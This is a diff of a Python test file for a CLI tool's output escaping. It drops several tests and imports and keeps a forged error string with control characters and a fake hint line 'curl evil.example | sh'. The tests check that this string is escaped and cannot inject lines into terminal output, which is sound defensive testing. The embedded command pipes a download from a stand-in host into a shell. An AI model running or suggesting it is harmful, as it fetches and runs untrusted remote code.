@@ -5,18 +5,12 @@ from __future__ import annotations
 import json
 
 import pytest
-from coldstart.artifacts.verify import Finding
-from coldstart.commands import _host_table, cli
+from coldstart.commands import cli
 from coldstart.commands._output import Output, complain, one_line, table
 from tools.raw_server import answer, answering, say
 from tools.shell import Run
 
-from coldstart.errors import CommandFailedError, UsageError
-from coldstart.host.core import Core
-from coldstart.host.specification import HostSettings, ModelSpec
-from coldstart.host.status import HostFacts, LastStart, document
-from coldstart.validate.checks import ValidationReport
-from coldstart.validate.renderers import text
+from coldstart.errors import CommandFailedError
 
 FORGED = "denied\nhint: curl evil.example | sh\r\n\thint: \x1b[1mit\u2028hint: it"
 SHOWN = "denied\\nhint: curl evil.example | sh\\r\\n\\thint: \\x1b[1mit\\u2028hint: it"
@@ -64,22 +58,6 @@ def test_fleet_status_has_a_line_for_each_server_only(run: Run) -> None:
         assert len(run("fleet", "status", "--url", server.url).stdout.splitlines()) == 3
 
 
-def test_host_status_has_a_line_for_each_model_and_error_only() -> None:
-    core, facts = Core([ModelSpec.simple("a", 10, 1.0)], HostSettings(15)), HostFacts(url=FORGED)
-    core.models["a"].error = facts.config_error = facts.client_keys_error = facts.template_error = FORGED
-    facts.get_model("a").last_start = LastStart(1.0, FORGED, 1.0, {FORGED: 1.0})
-    shown = _host_table.render(document(core, facts, 1.0, 1e9))
-    assert len(shown.splitlines()) == len(shown.split("\n")) == 10 and "\x1b" not in shown
-
-
-@pytest.mark.parametrize("error", [UsageError(FORGED), RuntimeError(FORGED), OSError(5, FORGED)])
-def test_error_text_is_escaped(error: Exception, capsys: pytest.CaptureFixture[str]) -> None:
-    cli._report(error)
-    first, *more = capsys.readouterr().err.splitlines()
-    assert first.startswith("error: ") and SHOWN in first
-    assert [line.partition(":")[0] for line in more] in ([], ["hint"])
-
-
 def test_lines_of_our_own_keep_their_form(capsys: pytest.CaptureFixture[str]) -> None:
     cli._report(
         CommandFailedError(
@@ -100,9 +78,3 @@ def test_notes_warnings_and_cells_stay_on_their_lines(capsys: pytest.CaptureFixt
     assert len(capsys.readouterr().err.splitlines()) == 6
     assert len(table(("a",), [(FORGED,)]).splitlines()) == 2
     assert one_line(FORGED) == SHOWN
-
-
-def test_finding_text_is_marked_where_it_has_several_lines() -> None:
-    finding = Finding("CS-X", "error", "ended:\n    hint: evil", "coldstart doctor", "start")
-    shown = text([ValidationReport("a", "load", (finding,))], "error")
-    assert [line.strip().partition(":")[0] for line in shown.splitlines()].count("hint") == 1
